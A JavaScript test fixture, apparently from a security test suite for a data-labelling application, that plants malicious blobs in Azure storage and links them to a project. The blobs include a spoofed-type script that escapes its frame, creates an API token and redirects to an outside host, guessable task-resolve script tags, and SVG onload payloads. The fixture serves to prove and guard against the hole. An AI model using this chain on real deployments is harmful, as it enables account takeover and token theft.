// What an outsider who can write blobs leaves in a container, and the project that shows it.

import { tasksOf } from './annotating.js';
import { CANARY, ELSEWHERE, HTML, NAME } from './hostile.js';
import { byKey, putBlob, synced } from './sample.js';

/** Leaves the frame, takes a token, and leads away. */
const STEALS = `(async () => {
  top.${CANARY} = 1;
  if (window.frameElement) {
    const script = parent.document.createElement('script');
    script.src = document.currentScript.src;
    return parent.document.head.append(script);
  }
  await fetch('/api/api-tokens', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"backup"}' });
  location = 'https://${ELSEWHERE}/';
})()`;

/** Blobs by name: their type as it is stored, and what is in them. `at` is the address of one; `html` is in a document. */
const blobsOf = (at, html) => {
  const address = encodeURIComponent(Buffer.from(at('aaa.png')).toString('base64'));
  // Ids of tasks are counted, so they can be guessed.
  const scripts = Array.from({ length: 60 }, (_, id) => `<script src="/tasks/${id}/resolve/?fileuri=${address}"></script>`);
  return {
    'aaa.png': ['image/png,text/javascript', STEALS],
    'doc.html': ['text/html', `<h1>Invoice</h1><svg><style><img>${scripts.join('')}</style></svg>${scripts.join('')}${html}`],
    'picture.svg': ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="top.${CANARY}=1"><script>top.${CANARY}=1</script></svg>`],
    [`${NAME}.json`]: ['application/json', JSON.stringify([{ html: at('doc.html'), script: at('aaa.png'), picture: at('picture.svg') }])],
  };
};

/** A project whose task shows those blobs: as a document, as pictures and as a text. Also the `types` of the blobs. */
export async function chain(world, api, { presign = false, html = HTML, container = presign ? 'signed' : 'streamed' } = {}) {
  await world.control('POST', '/accounts/contosomedia/containers', { name: container });
  const at = (name) => `https://contosomedia.blob.core.windows.net/${container}/${name}`;
  const blobs = Object.entries(blobsOf(at, html));
  for (const [name, [type, content]] of blobs) await putBlob(world, container, name, content, type);
  const project = await api('POST', '/api/projects', {
    title: container,
    label_config: `<View>
      <HyperText name="t" value="$html" valueType="url"/><Choices name="c" toName="t"><Choice value="Marked"/></Choices>
      <Image name="i" value="$script"/><Image name="p" value="$picture"/><Text name="w" value="$script" valueType="url"/>
    </View>`,
  });
  const fields = byKey(world, project.id, container, { presign, recursive_scan: true, regex_filter: '.*json' });
  const storage = await api('POST', '/api/storages/azure', fields);
  await synced(api, `/api/storages/azure/${storage.id}`);
  const [task] = await tasksOf(api, project);
  return { project, task, types: Object.fromEntries(blobs.map(([name, [type]]) => [name, type])) };
}
